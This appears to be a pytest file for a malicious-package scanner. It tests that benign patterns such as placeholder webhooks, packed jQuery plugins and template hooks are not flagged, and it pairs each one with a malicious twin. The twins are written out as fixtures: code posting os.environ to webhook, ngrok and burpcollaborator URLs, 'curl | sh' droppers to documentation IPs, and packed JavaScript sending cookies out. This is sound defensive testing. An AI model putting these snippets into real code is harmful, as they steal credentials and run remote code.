"""Shapes of popular releases that cried wolf on the tune-only corpora of round 9
(``popular-extra-6`` and ``popular-extra-7``), read as what they are (no project names), each
beside its malicious twin that must stay high:

* a webhook URL whose path is a document's placeholder (``services/YOUR/WEBHOOK/URL``) posts
  nowhere; a real Slack webhook (workspace id first) stays an endpoint;
* a request catcher named as one bare host in a table of host names (a disposable-mail
  blocklist) is compared with, not sent to; the same host as a URL code posts to stays high.
"""

from __future__ import annotations

import re

from app.core.archive import open_artifact
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import make_sdist, make_wheel, wheel_entries, zip_bytes

HIGH = ("high", "critical")


def _wheel(tmp_path, files, name="gizmo"):
    return scan_artifact(open_artifact(make_wheel(tmp_path, name=name, files=files)))


def _ids(res) -> set[str]:
    return {t.id for t in res.threats if t.severity in HIGH}


# ------------------------------------------------------------- placeholder webhook URLs

README_EXAMPLE = b'''"""Client for a no-code database.

Example::

    client.create_webhook(
        event="after.insert",
        url="https://hooks.slack.com/services/YOUR/WEBHOOK/URL",
    )
"""

HELP = "Paste your incoming webhook, e.g. https://hooks.slack.com/services/XXXX/YYYY/ZZZZ"
'''


def test_a_placeholder_slack_webhook_in_an_example_is_no_endpoint(tmp_path):
    """A client library documents its webhook API with Slack's placeholder path: a real
    webhook starts with the workspace id (``T`` and capitals), a placeholder does not."""
    res = _wheel(tmp_path, {"gizmo/__init__.py": README_EXAMPLE, "gizmo/hooks.py": README_EXAMPLE})
    assert not [h for h in res.findings if h.capability == "net.exfil_endpoint"]
    assert "chain.exfil_endpoint" not in _ids(res)
    assert res.risk.level not in HIGH


def test_a_real_slack_webhook_that_code_posts_to_stays_high(tmp_path):
    stealer = (
        b"import json, os, urllib.request\n"
        b"URL = 'https://hooks.slack.com/services/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'\n"
        b"def report():\n"
        b"    body = json.dumps({'text': repr(dict(os.environ))}).encode()\n"
        b"    urllib.request.urlopen(URL, data=body)\n"
        b"report()\n"
    )
    res = _wheel(tmp_path, {"gizmo/__init__.py": stealer})
    assert "chain.exfil_endpoint" in _ids(res) or "chain.exfiltration" in _ids(res)
    assert res.risk.level in HIGH


# ------------------------------------------------------------------ tables of host names


def _blocklist(extra: str) -> bytes:
    domains = [f"mail{i}.example.com" for i in range(60)] + [extra] + ["temp-mail.org"]
    body = ",".join(f'"{d}"' for d in domains)
    return (
        b"import re\n\n\nclass Checker(object):\n"
        b"    blocklist = {" + body.encode() + b"}\n\n"
        b"    @classmethod\n"
        b"    def is_disposable(cls, email):\n"
        b"        domain = email.split('@')[-1].lower()\n"
        b"        return domain in cls.blocklist\n"
    )


def test_a_request_catcher_in_a_disposable_mail_blocklist_is_data(tmp_path):
    """A class attribute holding hundreds of disposable-mail domains names ``webhook.site``
    as one of them: the module compares addresses with the table and sends nothing."""
    res = _wheel(tmp_path, {"gizmo/__init__.py": _blocklist("webhook.site")})
    ends = [h for h in res.findings if h.capability == "net.exfil_endpoint"]
    assert ends and all(h.severity == "low" for h in ends)  # still shown
    assert "chain.exfil_endpoint" not in _ids(res)
    assert res.risk.level not in HIGH


def test_a_request_catcher_url_in_a_list_that_code_posts_to_stays_high(tmp_path):
    """The twin: the catcher as a URL with its bin id, taken from a list and posted to. A
    list of URLs is no table of host names."""
    urls = ",".join(f'"https://mirror{i}.example.invalid/upload"' for i in range(25))
    stealer = (
        b"import os, random, urllib.request\n"
        b"TARGETS = ["
        + urls.encode()
        + b', "https://webhook.site/2f9b7a5c-1d2e-4f3a-8b9c-0d1e2f3a4b5c"]\n'
        b"for url in TARGETS:\n"
        b"    urllib.request.urlopen(url, data=repr(dict(os.environ)).encode())\n"
    )
    res = _wheel(tmp_path, {"gizmo/__init__.py": stealer})
    assert {"chain.exfil_endpoint", "chain.exfiltration"} & _ids(res)
    assert res.risk.level in HIGH


def test_a_bare_catcher_host_alone_that_code_builds_a_url_from_stays_high(tmp_path):
    """A bare host kept alone (not one entry of a table of hosts) is still an endpoint."""
    stealer = (
        b"import os, urllib.request\n"
        b"HOST = 'webhook.site'\n"
        b"urllib.request.urlopen('https://' + HOST + '/2f9b7a5c', data=repr(dict(os.environ)).encode())\n"
    )
    res = _wheel(tmp_path, {"gizmo/__init__.py": stealer})
    assert res.risk.level in HIGH


# ------------------------------------------------------- Dean Edwards' packer, unpacked

_PACKER = (
    "eval(function(p,a,c,k,e,r){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?"
    "String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){while(c--)r[e(c)]"
    "=k[c]||e(c);k=[function(e){return r[e]}];e=function(){return'\\\\w+'};c=1};while(c--)"
    "if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}"
)


def _base62(n: int) -> str:
    digits = "0123456789abcdefghijklmnopqrstuvwxyz" + "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
    return ("" if n < 62 else _base62(n // 62)) + digits[n % 62]


def pack(code: str) -> bytes:
    """What the packer writes for ``code``: every word replaced by its base-62 index into a
    word list, and the lines that put the words back and eval the result."""
    words: list[str] = []
    for w in re.findall(r"\b\w+\b", code):
        if w not in words:
            words.append(w)
    payload = re.sub(r"\b\w+\b", lambda m: _base62(words.index(m.group(0))), code)
    payload = payload.replace("\\", "\\\\").replace("'", "\\'")
    call = f"{_PACKER}('{payload}',62,{len(words)},'{'|'.join(words)}'.split('|'),0,{{}}))\n"
    return call.encode()


TREE_PLUGIN = (
    ";(function($){$.extend($.fn,{swapClass:function(b,c){var a=this.filter('.'+b);"
    "this.filter('.'+c).removeClass(c).addClass(b);a.removeClass(b).addClass(c);return this},"
    'hoverClass:function(a){a=a||"hover";return this.hover(function(){$(this).addClass(a)},'
    "function(){$(this).removeClass(a)})}})})(jQuery);"
)


def test_a_packed_jquery_plugin_that_does_nothing_is_no_decoded_payload(tmp_path):
    """A docs theme vendors a jQuery plugin shrunk by Dean Edwards' packer: its eval runs
    text rebuilt from a word list. Unpacked, the plugin only toggles CSS classes."""
    res = _wheel(
        tmp_path,
        {"gizmo/__init__.py": b"", "gizmo/assets/tree/jquery.tree.pack.js": pack(TREE_PLUGIN)},
    )
    packed = [h for h in res.findings if h.rule == "js.packed_exec"]
    assert packed and all(h.severity not in HIGH for h in packed)
    assert not [h for h in res.findings if h.capability == "exec.decode_then_exec"]
    assert res.risk.level not in HIGH


def test_packed_code_that_starts_a_shell_download_stays_high(tmp_path):
    """The twin: the same packer around code that starts a downloaded script."""
    dropper = (
        "var cp=require('child_process');"
        "cp.exec('curl -s http://203.0.113.7/stage2.sh | sh',function(){});"
    )
    res = _wheel(
        tmp_path, {"gizmo/__init__.py": b"", "gizmo/assets/tree/jquery.tree.pack.js": pack(dropper)}
    )
    assert [h for h in res.findings if h.capability == "exec.decode_then_exec"]
    assert res.risk.level in HIGH


def test_packed_code_that_sends_cookies_out_stays_high(tmp_path):
    """The twin in a browser: packed code posting the page's cookies to a request catcher."""
    stealer = (
        "(function(){var d=document.cookie;"
        "fetch('https://webhook.site/2f9b7a5c-1d2e-4f3a-8b9c-0d1e2f3a4b5c',"
        "{method:'POST',body:d})})();"
    )
    res = _wheel(
        tmp_path, {"gizmo/__init__.py": b"", "gizmo/assets/tree/jquery.tree.pack.js": pack(stealer)}
    )
    assert res.risk.level in HIGH


# ------------------------------------------------------ project templates' generation hooks

POST_GEN_HOOK = b"""import subprocess
import sys
from pathlib import Path

venv_root = Path('.venv')
subprocess.check_call([sys.executable, '-m', 'venv', str(venv_root)])
subprocess.check_call([str(venv_root / 'bin' / 'pip'), 'install', '-r', 'requirements.txt'])
subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'playwright'])
"""


def _template(hook: bytes, with_cookiecutter_json: bool = True) -> dict[str, bytes]:
    files = {
        "gizmo/__init__.py": b"VERSION = '1.0'\n",
        "gizmo/cli.py": b"def create(name):\n    from cookiecutter.main import cookiecutter\n",
        "gizmo/project_template/hooks/post_gen_project.py": hook,
        "gizmo/project_template/{{cookiecutter.name}}/main.py": b"print('hello')\n",
    }
    if with_cookiecutter_json:
        files["gizmo/project_template/cookiecutter.json"] = b'{"name": "my-crawler"}\n'
    return files


def test_a_project_templates_post_gen_hook_installing_requirements_is_no_import_time_pull(
    tmp_path,
):
    """A framework ships a cookiecutter template whose post-generation hook creates the new
    project's virtualenv and installs its requirements: cookiecutter runs it when a user
    generates a project, never on import."""
    res = _wheel(tmp_path, _template(POST_GEN_HOOK))
    pulls = [h for h in res.findings if h.capability == "install.dependency_pull"]
    assert pulls and all(h.severity not in HIGH and h.place != "import" for h in pulls)
    assert not {"place.dependency_pull", "place.import_time"} & _ids(res)
    assert res.risk.level not in HIGH


def test_the_same_hook_without_a_template_beside_it_stays_an_import_time_pull(tmp_path):
    """The twin: a ``hooks/post_gen_project.py`` with no ``cookiecutter.json`` beside it is
    a module of the package; a pip install at its module level is judged as code."""
    files = _template(POST_GEN_HOOK, with_cookiecutter_json=False)
    files["gizmo/__init__.py"] = b"from gizmo.project_template.hooks import post_gen_project\n"
    files["gizmo/project_template/__init__.py"] = b""
    files["gizmo/project_template/hooks/__init__.py"] = b""
    res = _wheel(tmp_path, files)
    assert res.risk.level in HIGH


def test_a_template_hook_the_package_imports_runs_on_import(tmp_path):
    """The twin inside a template: a hook the package's own ``__init__`` imports runs on
    import, whatever folder it sits in."""
    files = _template(POST_GEN_HOOK)
    files["gizmo/__init__.py"] = b"from gizmo.project_template.hooks import post_gen_project\n"
    files["gizmo/project_template/__init__.py"] = b""
    files["gizmo/project_template/hooks/__init__.py"] = b""
    res = _wheel(tmp_path, files)
    assert res.risk.level in HIGH


def test_a_template_hook_that_pipes_a_download_into_a_shell_stays_high(tmp_path):
    """The twin: a hook is a script a user's command runs, and a script fetching and
    starting a remote shell script stays high there."""
    hook = b"import os\nos.system('curl -s http://203.0.113.9/boot.sh | sh')\n"
    res = _wheel(tmp_path, _template(hook))
    assert res.risk.level in HIGH


# ------------------------------------------------------ examples in documentation keywords

MODEL_HELP = b"""from django.db import models
from django.utils.translation import gettext_lazy as _


class Webhook(models.Model):
    url = models.CharField(
        max_length=255,
        help_text=_(
            "URL of this webhook, e.g. "
            "https://discordapp.com/api/webhooks/123456/abcdef"
        ),
    )


def options(parser):
    parser.add_argument("--hook", help="where to post, e.g. https://webhook.site/your-id")
"""


def test_an_example_webhook_in_a_fields_help_text_is_documentation(tmp_path):
    """A model field's ``help_text`` and an option's ``help`` are shown to people filling
    the form or reading ``--help``; an example webhook there is no address in use."""
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/models.py": MODEL_HELP})
    ends = [h for h in res.findings if h.capability == "net.exfil_endpoint"]
    assert ends and all(h.severity == "low" for h in ends)  # still shown
    assert "chain.exfil_endpoint" not in _ids(res)
    assert res.risk.level not in HIGH


def test_the_same_webhook_as_a_calls_url_keyword_stays_high(tmp_path):
    """The twin: the URL handed as the address of a request (a keyword that is no text for
    people) is an endpoint in use."""
    stealer = (
        b"import os, requests\n"
        b"requests.post(url='https://discordapp.com/api/webhooks/123456/abcdef',\n"
        b"              json={'content': repr(dict(os.environ))})\n"
    )
    res = _wheel(tmp_path, {"gizmo/__init__.py": stealer})
    assert {"chain.exfil_endpoint", "chain.exfiltration"} & _ids(res)
    assert res.risk.level in HIGH


# ------------------------------------------------ the long description in core metadata

_HEADERS = (
    "Metadata-Version: 2.1\nName: gizmo\nVersion: 1.0\nSummary: Tunnels for your app\n"
    "Project-URL: homepage, https://gizmo.example.com\n"
)
README_BODY = """
# gizmo

Forward a local port and share it:

```
$ curl -v https://<YOUR_LISTENER_URL>
* Connected to a6278d6c07ce.ngrok.app (<YOUR_IP>) port 443 (#0)
> Host: a6278d6c07ce.ngrok.app
```

Send an alert on every new record:

    client.create_webhook(url="https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXX")
"""


def test_hosts_in_the_long_description_of_the_metadata_are_documentation(tmp_path):
    """A tunnel client's README (the wheel's METADATA body) shows sample output through a
    tunnel host and an example webhook: the index page's text, which nothing posts to."""
    meta = (_HEADERS + README_BODY).encode()
    res = _wheel(tmp_path, {"gizmo-1.0.dist-info/METADATA": meta})
    ends = [h for h in res.findings if h.capability == "net.exfil_endpoint"]
    assert ends and all(h.severity not in HIGH for h in ends)  # still shown
    assert "chain.exfil_endpoint" not in _ids(res)
    assert res.risk.level not in HIGH


def test_a_tunnel_address_in_a_metadata_header_stays_high(tmp_path):
    """The twin: a download address in the headers, which installers and people follow
    (a tunnel's: a file host alone is medium anywhere since round 16)."""
    meta = (
        _HEADERS.replace(
            "Project-URL", "Download-URL: https://a1b2c3d4.ngrok.app/gizmo.tgz\nProject-URL"
        )
        + README_BODY
    ).encode()
    res = _wheel(tmp_path, {"gizmo-1.0.dist-info/METADATA": meta})
    assert "chain.exfil_endpoint" in _ids(res)
    assert res.risk.level in HIGH


def test_the_readmes_tunnel_host_used_by_the_packages_code_stays_high(tmp_path):
    """The twin: the README's tunnel host, posted to by the package's own code."""
    code = (
        b"import os, urllib.request\n"
        b"DATA = repr(dict(os.environ)).encode()\n"
        b"urllib.request.urlopen('https://a6278d6c07ce.ngrok.app/c', data=DATA)\n"
    )
    meta = (_HEADERS + README_BODY).encode()
    res = _wheel(tmp_path, {"gizmo-1.0.dist-info/METADATA": meta, "gizmo/__init__.py": code})
    assert res.risk.level in HIGH


# -------------------------------------------- duplicate names inside a bundled archive


def _fat_jar() -> bytes:
    """A jar merging its dependencies: each brought its own META-INF/DEPENDENCIES."""
    return zip_bytes(
        [
            ("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\nMain-Class: Server\n"),
            ("META-INF/DEPENDENCIES", b"// netty 4.1\n"),
            ("Server.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34"),
            ("META-INF/DEPENDENCIES", b"// jackson 2.15\n"),
        ]
    )


def test_duplicate_names_in_a_jar_the_package_bundles_are_not_installer_ambiguity(tmp_path):
    """A model server ships its frontend as a fat jar whose merged dependencies each left a
    ``META-INF/DEPENDENCIES``: pip never unpacks the jar, and every copy was scanned."""
    res = _wheel(tmp_path, {"gizmo/frontend/server.jar": _fat_jar()})
    dups = [h for h in res.findings if h.rule == "arc.duplicate_differs"]
    assert dups and all(h.severity == "medium" for h in dups)
    assert "mismatch.ambiguous_archive" not in _ids(res)
    assert res.risk.level not in HIGH


def test_duplicate_names_in_the_package_itself_stay_high(tmp_path):
    """The twin: the wheel itself holds two different copies of a module; the installer
    keeps the last one, which may not be the one a reviewer read."""
    entries = list(wheel_entries("gizmo", "1.0").items())
    entries += [
        ("gizmo/core.py", b"def run():\n    return 1\n"),
        ("gizmo/core.py", b"import os\ndef run():\n    return os.getpid()\n"),
    ]
    whl = tmp_path / "gizmo-1.0-py3-none-any.whl"
    whl.write_bytes(zip_bytes(entries))
    res = scan_artifact(open_artifact(whl))
    assert "mismatch.ambiguous_archive" in _ids(res)


def test_duplicate_names_in_a_sample_wrapped_in_a_zip_stay_high(tmp_path):
    """The twin: a package handed over inside a wrapper zip (its only member) is still the
    package: its own duplicate names stay high."""
    entries = list(wheel_entries("gizmo", "1.0").items())
    entries += [("gizmo/core.py", b"X = 1\n"), ("gizmo/core.py", b"X = 2\n")]
    wrapper = tmp_path / "sample.zip"
    wrapper.write_bytes(zip_bytes({"gizmo-1.0-py3-none-any.whl": zip_bytes(entries)}))
    res = scan_artifact(open_artifact(wrapper))
    assert "mismatch.ambiguous_archive" in _ids(res)


# ---------------------------------------- setup.py running a shipped script in its folder

BUNDLED_BUILD_SETUP = b"""import os
import sys
from setuptools import setup, Extension

building = any(a.startswith(('build', 'bdist', 'install')) for a in sys.argv[1:])
if building and not os.path.exists('lib/libreadline.a'):
    if '-q' in sys.argv:
        os.system('cd rl && /bin/bash ./build.sh > /dev/null 2>&1')
    else:
        os.system('cd rl && /bin/bash ./build.sh')

setup(name='gizmo', version='1.0', ext_modules=[Extension('gizmo', ['gizmo.c'])])
"""
BUILD_SH = b"""#!/bin/sh
tar xzf readline-6.2.tar.gz
cd readline-6.2 && ./configure --disable-shared && make
"""


def _sdist(tmp_path, files):
    return scan_artifact(open_artifact(make_sdist(tmp_path, name="gizmo", files=files)))


def test_setup_py_running_its_bundled_build_script_in_its_folder_is_judged_by_the_script(
    tmp_path,
):
    """A C extension's setup.py builds the library it bundles with ``cd rl && /bin/bash
    ./build.sh`` (quietly with ``> /dev/null 2>&1``): the script ships in the sdist and is
    read; the start is the build, judged by what the script does."""
    res = _sdist(tmp_path, {"setup.py": BUNDLED_BUILD_SETUP, "rl/build.sh": BUILD_SH})
    starts = [h for h in res.findings if h.rule == "py.spawn_own_script"]
    assert starts and all(h.severity == "medium" for h in starts)
    assert "place.install_time" not in _ids(res)
    assert res.risk.level not in HIGH


def test_the_same_start_of_a_script_the_sdist_does_not_ship_stays_an_install_time_act(tmp_path):
    """The twin: ``rl/build.sh`` is not in the sdist (written or fetched at install)."""
    res = _sdist(tmp_path, {"setup.py": BUNDLED_BUILD_SETUP})
    assert "place.install_time" in _ids(res)


def test_a_second_command_chained_after_the_script_stays_an_install_time_act(tmp_path):
    """The twin: a shell line that changes folder, runs the script and then something else."""
    setup_py = BUNDLED_BUILD_SETUP.replace(b"./build.sh')", b"./build.sh && sh /tmp/.cache/x.sh')")
    res = _sdist(tmp_path, {"setup.py": setup_py, "rl/build.sh": BUILD_SH})
    assert "place.install_time" in _ids(res)


def test_a_shipped_script_that_pipes_a_download_into_a_shell_stays_high(tmp_path):
    """The twin: the script setup.py starts is read, and what it does keeps its severity."""
    evil = b"#!/bin/sh\ncurl -s http://203.0.113.8/x.sh | sh\n"
    res = _sdist(tmp_path, {"setup.py": BUNDLED_BUILD_SETUP, "rl/build.sh": evil})
    assert res.risk.level in HIGH


# --------------------------------------------- a load on import beside an on-request download

_FILLER = "".join(f"DEFAULT_{i} = {i}\n" for i in range(40))
KERNEL_LOAD = """import ctypes
import os
import urllib.request

try:
    from simdlib import _kernels as _ext
    _path = _ext.__file__
    _lib = ctypes.CDLL(_path, mode=ctypes.RTLD_GLOBAL)
except ImportError:
    pass
"""
ON_REQUEST_DOWNLOAD = """

def extension_path(version):
    target = os.path.join(os.path.expanduser('~/.cache/gizmo'), 'gizmo_sqlite.so')
    if not os.path.exists(target):
        url = f'https://github.com/example/gizmo/releases/download/v{version}/gizmo_sqlite.so'
        urllib.request.urlretrieve(url, target)
    return target
"""


def test_a_library_loaded_on_import_far_from_an_on_request_download_is_no_chain(tmp_path):
    """A vector index loads its SIMD kernels' library on import and, in a function a user
    calls, fetches an SQLite extension for them to load: two features of one module."""
    code = (KERNEL_LOAD + _FILLER + ON_REQUEST_DOWNLOAD).encode()
    res = _wheel(tmp_path, {"gizmo/__init__.py": code})
    assert "chain.download_execute" not in _ids(res)
    assert res.risk.level not in HIGH


def test_a_download_on_import_and_a_load_on_import_stay_a_chain_however_far_apart(tmp_path):
    """The twin: both run on their own at import, 40 lines apart."""
    code = (
        "import ctypes, os, urllib.request\n"
        "P = os.path.join(os.path.expanduser('~'), '.cache', 'libhelper.so')\n"
        "urllib.request.urlretrieve('http://203.0.113.5/libhelper.so', P)\n"
        + _FILLER
        + "ctypes.CDLL(P)\n"
    ).encode()
    res = _wheel(tmp_path, {"gizmo/__init__.py": code})
    assert "chain.download_execute" in _ids(res)
    assert res.risk.level in HIGH


def test_a_download_loaded_a_few_lines_later_in_a_function_stays_a_chain(tmp_path):
    """The twin: in a function only a user calls, the download loaded right after."""
    code = (
        "import ctypes, os, urllib.request\n" + _FILLER + "def enable():\n"
        "    p = os.path.join(os.path.expanduser('~'), '.cache', 'libhelper.so')\n"
        "    urllib.request.urlretrieve('http://203.0.113.5/libhelper.so', p)\n"
        "    return ctypes.CDLL(p)\n"
    ).encode()
    res = _wheel(tmp_path, {"gizmo/__init__.py": code})
    assert "chain.download_execute" in _ids(res)


# ------------------------------------------- collected data sent to this machine's loopback

LOCAL_PROXY = b"""import json
import os
import urllib.request

PORT = int(os.environ.get("GIZMO_PORT", "8787"))


def push_runtime_env(port=PORT):
    payload = {k: v for k, v in os.environ.items() if k.startswith(("GIZMO_", "HTTP"))}
    request = urllib.request.Request(
        f"http://127.0.0.1:{port}/admin/runtime-env",
        data=json.dumps(dict(os.environ)).encode("utf-8"),
        method="POST",
    )
    with urllib.request.urlopen(request, timeout=2) as response:
        return response.status
"""


def test_the_environment_handed_to_the_packages_own_proxy_on_loopback_is_no_exfiltration(
    tmp_path,
):
    """A CLI wrapper starts its own proxy and, when the user runs it, hands the proxy the
    environment over ``http://127.0.0.1:{port}``: nothing leaves the machine."""
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/wrap.py": LOCAL_PROXY})
    local = [h for h in res.findings if h.rule == "py.net_send_local"]
    assert local and all(h.severity == "low" for h in local)  # shown like any request
    assert "chain.exfiltration" not in _ids(res)
    assert res.risk.level not in HIGH


def test_the_same_environment_posted_to_a_public_host_stays_an_exfiltration(tmp_path):
    """The twin: the same request to a host off the machine (a documentation address)."""
    code = LOCAL_PROXY.replace(b"http://127.0.0.1:{port}", b"http://203.0.113.20:{port}")
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/wrap.py": code})
    assert "chain.exfiltration" in _ids(res)
    assert res.risk.level in HIGH


def test_a_loopback_lookalike_host_stays_an_exfiltration(tmp_path):
    """The twin: a host that only starts like localhost (``localhost.example.invalid``)."""
    code = LOCAL_PROXY.replace(b"http://127.0.0.1:{port}", b"https://localhost.example.invalid")
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/wrap.py": code})
    assert res.risk.level in HIGH


# ------------------------------------------------------------ JSON Lines data files


def _records(extra: str) -> bytes:
    rows = [
        f'{{"user_agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/{v}.0", "os": "linux"}}'
        for v in range(50, 120)
    ]
    rows.insert(30, f'{{"user_agent": "Mozilla/5.0 Chrome/55.0 {extra}", "os": "windows"}}')
    return ("\n".join(rows) + "\n").encode()


def test_a_catcher_host_inside_a_record_of_a_json_lines_table_is_data(tmp_path):
    """A table of scraped user agents kept as JSON Lines holds one agent string a scanner
    probe left with an out-of-band catcher's host: a record the library hands out, read by
    no interpreter."""
    extra = "root@1jl3s4g67qq6by29do8h.burpcollaborator.net"
    res = _wheel(tmp_path, {"gizmo/data/user_agents.jsonl": _records(extra)})
    ends = [h for h in res.findings if h.capability == "net.exfil_endpoint"]
    assert ends  # still shown
    assert "chain.exfil_endpoint" not in _ids(res)
    assert res.risk.level not in HIGH


def test_the_same_catcher_host_in_code_that_sends_to_it_stays_high(tmp_path):
    code = (
        b"import os, urllib.request\n"
        b"urllib.request.urlopen('http://1jl3s4g67qq6by29do8h.burpcollaborator.net/x',\n"
        b"                       data=repr(dict(os.environ)).encode())\n"
    )
    res = _wheel(tmp_path, {"gizmo/__init__.py": code})
    assert res.risk.level in HIGH
